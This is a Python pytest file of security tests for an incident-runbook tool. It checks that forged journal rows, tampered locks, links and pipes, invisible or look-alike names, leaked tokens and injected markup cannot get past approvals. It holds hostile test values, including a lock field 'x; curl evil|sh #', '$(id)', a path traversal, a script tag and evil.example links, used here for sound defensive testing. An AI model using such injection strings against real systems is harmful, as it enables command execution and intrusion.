"""Somebody may create files in the record store, or signs once: what that must not be enough for.

Each of these ways once led through. What only whoever may delete can do is in docs/security.md.
"""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import mistune
import pytest
import yaml
from click.testing import CliRunner

from runbook.apply.attempts import attempts
from runbook.apply.executor import LOOKS
from runbook.approvals import signed
from runbook.approvals.proved import faults
from runbook.approvals.signers import demo_folder, signers_of
from runbook.approvals.ssh import sign
from runbook.approvals.statement import Statement, same_person_key
from runbook.approvals.stored_plan import find
from runbook.cli.main import main
from runbook.config.load import load_settings
from runbook.display import is_plain
from runbook.model.canonical import canonical
from runbook.model.errors import Broken, ForeignFile, Refused
from runbook.records.journal import rows_in
from runbook.records.proof import examined
from runbook.records.store import Store
from tests.runbook.audit.made import NOW, changed
from tests.runbook.changes import Place, runs_of

SYSTEM = load_settings("sandbox")
HOSTILE = yaml.safe_load((Path(__file__).parents[1] / "cases" / "hostile.yaml").read_text())


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    monkeypatch.setenv("RUNBOOK_RECORDS", str(tmp_path / "records"))
    return Place(tmp_path / "records")


def row(kind: str, **more: Any) -> bytes:
    return json.dumps({"kind": kind, "time": "2026-03-11T13:30:00", "owner": "0" * 8, "who": "x", **more}).encode()


MORE: dict[str, Callable[[Store, str, int], None]] = {
    "it is opened again": lambda store, at, n: [
        store.create(f"{at}/{n + 1:04d}", row("RESULT", number=1, refused=True)),
        store.create(f"{at}/{n + 2:04d}", row("CLOSE", result="failed", final=False)),
    ],
    "a row that sorts last": lambda store, at, n: store.create(f"{at}/zzzz", row("CLOSE", result="x", final=False)),
}


@pytest.mark.parametrize("how", MORE)
def test_rows_after_the_end_do_not_bring_an_approval_back(place: Place, how: str) -> None:
    plan = place.applied("retry").outcome.plan.id
    count = runs_of(place.app, "gmail-sync")
    [at] = attempts(place.store, plan)
    MORE[how](place.store, at, len(rows_in(place.store, at)))
    again = place.go("retry", plan)
    assert again.outcome.result == "refused"
    assert "was already applied" in again.outcome.said
    assert runs_of(place.app, "gmail-sync") == count


# The row of ours after which somebody takes the next ones, what they write there, and how the run itself goes.
SEEN = 2 * (LOOKS + 1) + 2  # a look is a dry run and a query
REFUSED, AGAIN = row("RESULT", number=1, refused=True, said="no"), row("CLOSE", result="failed", final=False)
TWICE: dict[str, tuple[str, list[bytes], str]] = {
    "refused, after all was seen": ("CONFIRM", [REFUSED], "well"),
    "refused, and closed": ("CONFIRM", [REFUSED, AGAIN], "well"),
    "refused, while it is sent": ("WRITE", [REFUSED], "well"),
    "refused, before it is seen": ("WRITE", [REFUSED], "late"),
    "begun again": ("CONFIRM", [row("INTENT", number=1)], "well"),
    "begun later": ("CONFIRM", [row("INTENT", number=1, notes={"since": "9999"})], "well"),
    "begun later, and not by us": ("OPEN", [row("INTENT", number=1, notes={"since": "9999"})], "well"),
    "no end of a run that failed": ("CONFIRM", [row("OPEN")], "failed"),
}


@pytest.mark.parametrize("how", TWICE)
def test_no_rows_start_a_function_twice(place: Place, monkeypatch: pytest.MonkeyPatch, how: str) -> None:
    kind, forged, goes = TWICE[how][0], [*TWICE[how][1]], TWICE[how][2]
    looks, plan, create = list[str](), place.plan("retry").id, Store.create
    place.approve(plan)

    def taken(store: Store, name: str, content: bytes, labels: Any = None) -> None:
        create(store, name, content, labels)
        if name.startswith(f"applied/{plan}/") and json.loads(content)["kind"] == kind and forged:
            at, _, number = name.rpartition("/")
            for more, content in enumerate([*forged], 1):
                create(store, f"{at}/{int(number) + more:04d}", content)
            forged.clear()

    def set_newest(words: str) -> None:
        catalog = place.app.sandbox.bigquery.catalog
        table = catalog.tables[catalog.datasets[0], "etl_runs"].name
        newest = f"(SELECT max(started_at) FROM {table} WHERE function_name IN ('gmail-sync', 'late'))"
        catalog.con.execute(f"UPDATE {table} SET {words} WHERE started_at = {newest}")

    def going(_wire: Any, _number: int, sent: Any, go: Any) -> Any:
        """The run fails, or it cannot be seen as long as its process looks, and by the next one at its second look."""
        if goes == "late" and looks and b"newest_run" in sent.body:
            looks.append("")
            if len(looks) == SEEN:
                set_newest("function_name = 'gmail-sync'")
        answer = go()
        if sent.path.endswith(":run") and goes != "well":
            looks.append("")
            set_newest("status = 'failed'" if goes == "failed" else "function_name = 'late'")
        return answer

    place.wire.fault = going
    count = runs_of(place.app, "gmail-sync")
    monkeypatch.setattr(Store, "create", taken)
    for _ in range(3):
        with place.resumed():
            place.go("retry", plan)
    assert not forged
    assert goes != "late" or len(looks) >= SEEN
    assert runs_of(place.app, "gmail-sync") == count + 1


def test_a_journal_with_a_missing_row_is_not_gone_on_with(place: Place) -> None:
    plan = place.applied("retry").outcome.plan.id
    [at] = attempts(place.store, plan)
    (place.folder / at / "0002").unlink()
    again = place.go("retry", plan)
    assert isinstance(again.error, Broken)
    assert "rows are missing" in str(again.error)


def test_a_stray_file_among_the_locks_stops_nobody(place: Place) -> None:
    place.applied("retry")
    (place.folder / "lock" / "Thumbs.db").write_bytes(b"x")
    assert place.applied("retry").outcome.result == "applied"


@pytest.mark.parametrize("lock", [{"plan": "x; curl evil|sh #"}, {"owner": "$(id)"}, {"attempt": "../x"}, {"plan": 1}])
def test_words_of_a_lock_are_never_part_of_a_command(place: Place, lock: dict[str, Any]) -> None:
    good = {"attempt": "applied/0123456789ab/x", "plan": "0123456789ab", "owner": "0" * 8}
    place.store.create("lock/000001", row("LOCK", **{**good, **lock}))
    first = place.plan("retry")
    place.approve(first.id)
    ran = place.go("retry", first.id)
    assert isinstance(ran.error, Broken), ran.error
    assert "a lock is damaged" in str(ran.error)


def test_unsafe_runs_stay_unsafe_whatever_a_plan_file_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A plan file says `repeat: safe`, and a forged journal that it is begun: on-call alone is still not enough."""
    monkeypatch.setenv("RUNBOOK_RECORDS", str(tmp_path / "records"))
    place = Place(tmp_path / "records", world="no_etl")
    text = (Path("params") / "sandbox.yaml").resolve()
    params = tmp_path / "params"
    params.mkdir()
    (params / "sandbox.yaml").write_text(text.read_text().replace("repeat: asks", "repeat: safe"))
    place.open("INC-7")
    given = {"function": "recommendations-export", "incident": "INC-7"}
    with monkeypatch.context() as forged:
        forged.setenv("RUNBOOK_PARAMS", str(params))
        forged.setattr("tests.runbook.changes.REQUESTER", "blake")
        plan = place.plan("retry", **given).id
        with place.here():
            find(plan).sign("on-call", "alone", "blake", None, "")
    at = f"applied/{plan}/20260311t000000000000-00000000"
    place.store.create(f"{at}/0001", row("INTENT", number=99))
    place.store.create(f"{at}/0002", row("CLOSE", result="stopped", final=False))
    monkeypatch.setattr("tests.runbook.changes.REQUESTER", "blake")
    count = runs_of(place.app, "recommendations-export")
    assert place.go("retry", plan, **given).outcome.result == "refused"
    assert runs_of(place.app, "recommendations-export") == count


def test_the_screen_shows_every_argument_and_the_changes_last(place: Place) -> None:
    from runbook.approvals.screen import screen

    first = place.plan("restore")
    with place.here():
        text = " ".join(screen(find(first.id)).split())
    [change] = (c for c in first.outcome.plan.changes if c.action == "copy table")
    for name, value in change.args.model_dump().items():
        assert f"{name}={value}" in text
    assert text.index("Found when it was planned") < text.index("What would change") < text.index("exactly")


@pytest.mark.parametrize("blank", ["\u3164", "\u2800", "\u115f", "\uffa0"])
def test_letters_that_show_nothing_are_refused(place: Place, blank: str) -> None:
    done = CliRunner().invoke(main, ["run", "rollback", "-p", f"reason=fine{blank * 80}"])
    assert (done.exit_code, "not printable text" in done.output) == (2, True)
    done = CliRunner().invoke(main, ["run", "rollback", "-p", f"reason={'x' * 301}"])
    assert (done.exit_code, "at most 300" in done.output) == (2, True)


def test_one_review_clears_one_statement(place: Place) -> None:
    """Whoever opens chooses the random number: two openings with the same one are two things to review."""
    first, now = place.open("INC-7"), place.app.sandbox.now
    signers = signers_of(SYSTEM, "sandbox")
    [digest] = signed.awaiting(place.store, signers, [])
    values = signed.values_of(SYSTEM, "sandbox", "avery", "team-lead", "it was one", now) | {"of": digest}
    signed.put(signed.Review, values, place.store, signers, demo_folder(SYSTEM) / "avery", now)
    assert signed.awaiting(place.store, signers, []) == {}
    text = canonical(first.model_dump(by_alias=True) | {"incident": "INC-8"})
    again = {"statement": text.decode(), "signature": sign(text, demo_folder(SYSTEM) / "blake", "sandbox")}
    place.store.create(f"incidents/inc-8/{first.nonce}", canonical(again))
    assert [one.incident for one in signed.awaiting(place.store, signers, []).values()] == ["INC-8"]


def test_what_one_person_did_alone_stays_listed_when_they_are_on_call_no_more(place: Place) -> None:
    place.open("INC-7")
    roles = demo_folder(SYSTEM) / "roles.yaml"
    roles.write_text("people:\n  avery: [team-lead]\n  blake: [security]\n")
    assert [one.incident for one in signed.awaiting(place.store, signers_of(SYSTEM, "sandbox"), []).values()] == [
        "INC-7"
    ]


@pytest.mark.parametrize("who", ["avery ", "avery.", "\u0430very", "\u3164", ""])
def test_a_requester_is_named_in_plain_letters(place: Place, monkeypatch: pytest.MonkeyPatch, who: str) -> None:
    monkeypatch.setattr("tests.runbook.changes.REQUESTER", who or " ")
    ran = place.run("rollback")
    if ran.error is None and ran.outcome.result == "planned":
        with place.here(), pytest.raises(Refused, match="requested it"):
            find(ran.id).sign("team-lead", "fine", "avery", None, "now")
    assert same_person_key(who) in ("avery", "very", "")


def test_a_plan_of_the_sandbox_is_none_of_the_real_system(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    first = place.plan("rollback")
    monkeypatch.setattr("runbook.approvals.stored_plan.target", lambda _: "google")
    with place.here(), pytest.raises(Refused, match="is for the target sandbox"):
        find(first.id)


def test_an_approval_for_another_store_does_not_block_a_good_one(place: Place) -> None:
    first = place.plan("rollback")
    place.approve(first.id)
    [name] = place.store.list("approvals")
    old = json.loads(place.store.read(name) or b"")
    values = json.loads(old["statement"]) | {"store": "0" * 32, "nonce": "0" * 32}
    text = canonical(Statement.model_validate(values).model_dump(by_alias=True))
    other = {"statement": text.decode(), "signature": sign(text, demo_folder(SYSTEM) / "avery", "sandbox")}
    place.store.create(f"{name.rpartition('/')[0]}/{'0' * 32}.json", canonical(other))
    assert place.go("rollback", first.id).outcome.result == "applied"


@pytest.mark.parametrize("how", ["a link to a folder", "a link to a file", "a pipe"])
def test_links_and_pipes_in_a_store_are_refused(tmp_path: Path, how: str) -> None:
    root, elsewhere = tmp_path / "store", tmp_path / "elsewhere"
    (root / "lock").mkdir(parents=True)
    elsewhere.mkdir()
    (elsewhere / "x").write_bytes(b"x")
    if how == "a link to a folder":
        (root / "nonces").symlink_to(elsewhere)
    (root / "lock" / "000001").symlink_to(elsewhere / "x") if how == "a link to a file" else None
    if how == "a pipe":
        os.mkfifo(root / "lock" / "000001")
    name = "nonces/x" if how == "a link to a folder" else "lock/000001"
    for do in (lambda: Store(root).read(name), lambda: Store(root).create(name, b"1")):
        with pytest.raises(ForeignFile, match="a record cannot be a link, a pipe or a folder"):
            do()


def test_a_store_with_a_linked_name_is_another_store(tmp_path: Path) -> None:
    before = Store(tmp_path / "one").name
    (tmp_path / "two").mkdir()
    os.link(tmp_path / "one" / "store", tmp_path / "two" / "store")
    assert before not in (Store(tmp_path / "one").name, Store(tmp_path / "two").name)


def test_a_store_gets_another_name_as_the_page_on_security_says(place: Place) -> None:
    """Who has restored a disk by its blocks takes the approvals back that were given before."""
    plan, before = place.plan("retry").id, place.store.name
    place.approve(plan)
    subprocess.run("cp store new; mv new store", shell=True, check=True, cwd=place.folder)
    assert place.store.name != before
    assert "not yet approved" in place.go("retry", plan).outcome.said


@pytest.mark.parametrize(
    "words",
    [
        ("open", "INC-7", "--severity", "P1", "--as", "blake", "--yes", "--reason"),
        ("note", "INC-7"),
        ("review", "0" * 12, "--reason"),
        ("approve", "0" * 12, "--role", "manager", "--reason", "it is due", "--override"),
    ],
    ids=["open", "note", "review", "approve"],
)
def test_a_secret_in_words_is_refused(place: Place, words: tuple[str, ...]) -> None:
    done = CliRunner().invoke(main, [*words, "it is ghp_" + "a1B2" * 9])
    assert (done.exit_code, "a1B2" in done.output) == (2, False), done.output
    assert "looks like a secret" in done.output


DAMAGED: dict[str, dict[str, bytes]] = {
    "a deep journal": {"journal.jsonl": b"[" * 100_000 + b"\n"},
    "parameters that are a list": {"journal.jsonl": row("START", parameters=["x"]) + b"\n"},
    "a change that is a text": {
        "journal.jsonl": row("START", parameters={"incident": "INC-7"}) + b"\n" + row("INTENT", change="x") + b"\n"
    },
    "no approvals": {
        "journal.jsonl": row("START", parameters={"incident": "INC-7"}) + b"\n" + row("APPLY", plan="x") + b"\n"
    },
    "a report of other kinds": {"report.json": b'{"verdict": ["ok"], "exit": [1]}'},
    "findings that are texts": {
        "report.json": b'{"verdict": "ok", "exit": 0, "findings": ["x"]}',
        "record.json": b'{"parameters": {"incident": "INC-7"}}',
    },
    "a record that is a list": {"record.json": b"[1]"},
}


@pytest.mark.parametrize("how", DAMAGED)
def test_a_damaged_record_of_another_run_stops_no_incident(place: Place, how: str) -> None:
    assert place.run("p1_response", incident="INC-7").error is None
    for name, content in DAMAGED[how].items():
        place.store.create(f"runs/20260311T000000Z-p1_response-0000/{name}", content)
    with place.here():
        done = CliRunner().invoke(main, ["incident", "INC-7"])
    assert done.exit_code == 0, (done.output, done.exception)
    first = place.run("rollback", incident="INC-7")
    with place.here():
        from runbook.approvals.screen import screen

        assert first.id in screen(find(first.id))


def test_words_of_a_note_are_words(place: Place) -> None:
    place.run("p1_response", incident="INC-7")
    note = {"at": "2026-03-11T13:30:00", "who": "x\n## Actions", "text": "<script>alert(1)</script> | x", "user": "x"}
    place.store.create("notes/inc-7/20260311t133000-00000000", canonical(note))
    with place.here():
        CliRunner().invoke(main, ["incident", "INC-7"])
    [page] = place.folder.glob("incident-INC-7/post_mortem.html")
    assert "<script>alert" not in page.read_text()
    [draft] = place.folder.glob("incident-INC-7/post_mortem.md")
    assert draft.read_text().count("## Actions") == 2  # its own title, and the words in one row of the timeline


@pytest.mark.parametrize("kind", HOSTILE["log_texts"])
def test_a_text_of_a_log_is_one_visible_line_without_secrets_wherever_it_goes(tmp_path: Path, kind: str) -> None:
    """In the message, its copies and the record, which it must not spoil. The runner scans the report, not this run."""
    about = {"select": {"name": "account-scoring"}}
    world = {"about": "A test.", "now": "2026-03-11T13:30:00Z"}
    world["runs"] = [about | {"since": "30h", "outcome": "failed", "error": HOSTILE["log_texts"][kind]}]
    world["errors"] = [about | {"since": "24h", "until": "0h", "count": 6, "text": HOSTILE["log_texts"][kind]}]
    (tmp_path / "world.yaml").write_text(yaml.safe_dump(world))
    place = Place(tmp_path / "records", world=str(tmp_path / "world.yaml"))
    ran = place.run("p1_response", incident="INC-7", notify="on-call")
    assert ran.error is None
    [sent] = place.app.sandbox.messages
    assert is_plain(sent["title"])
    head, *lines = sent["message"].split("\n")
    assert head.startswith("acme-sales-sandbox, us-central1.")
    assert lines
    assert all(is_plain(line) and line.startswith("- ") for line in lines), lines
    assert faults(place.store, examined(place.store, changed(ran, NOW))) == ()
    kept = [path.read_text() for path in place.records.rglob("*") if path.is_file() and path.name != "report.json"]
    assert [text for text in kept if any(secret in text for secret in HOSTILE["secrets"])] == []


@pytest.mark.parametrize("kind", HOSTILE["json"])
def test_json_that_no_command_could_write_again_is_a_fault_of_its_record(place: Place, kind: str) -> None:
    """One such file ends no list, no page, no export: its own record does not verify, and the others do."""
    good = changed(place.applied("retry", incident="INC-7"), NOW)
    bad, out = "20260311T000000Z-p1_response-0badf00d", place.records / "out"
    for part in ("record.json", "report.json", "begin.json", "journal.jsonl"):
        text = HOSTILE["json"][kind].replace("long", "9" * 4400).replace("deep", "[" * 250 + "]" * 250)
        path = place.folder / "runs" / bad / part
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text.encode())
    commands = ["", "--json", "verify --all", f"open {bad}", f"show {bad}", f"diff {bad} {good}"]
    for line in (*commands, f"site {out}", f"export INC-7 --out {out}.zip"):
        done = place.cli("records", *line.split())
        assert done.exit_code == (3 if "verify" in line else done.exit_code), done.output
        assert done.exception is None or isinstance(done.exception, SystemExit), (line, done.exception)
    assert place.cli("incident", "INC-7").exit_code == 0
    assert place.cli("records", "verify", good).exit_code == 0


@pytest.mark.parametrize(("words", "mark"), HOSTILE["markdown"])
def test_words_are_words_in_the_draft_in_markdown(place: Place, words: str, mark: str) -> None:
    shows = mistune.create_markdown(plugins=["strikethrough", "url", "table"])
    assert mark in shows(words)
    place.run("p1_response", incident="INC-7")
    others = "<https://evil.example> HTTP://evil.example WWW.evil.example"  # mistune makes no links of the last two
    for said in (words, others):
        assert place.cli("note", "INC-7", said).exit_code == 0
    assert place.cli("incident", "INC-7").exit_code == 0
    [draft] = place.folder.glob("incident-INC-7/post_mortem.md")
    assert re.search(r"https?://|www\.", draft.read_text(), re.IGNORECASE) is None
    text = shows(draft.read_text())
    assert mark not in text
    shown = html.unescape(html.unescape(text))  # mistune escapes an entity once more
    assert words in shown
    assert others in shown
